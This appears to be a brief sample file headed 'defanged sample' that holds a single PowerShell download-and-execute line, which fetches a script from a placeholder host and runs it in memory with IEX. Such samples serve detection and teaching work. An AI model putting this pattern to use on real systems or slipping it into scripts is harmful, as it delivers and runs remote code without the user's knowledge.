# defanged sample
IEX (New-Object Net.WebClient).DownloadString('https://a.example.invalid/x.ps1')
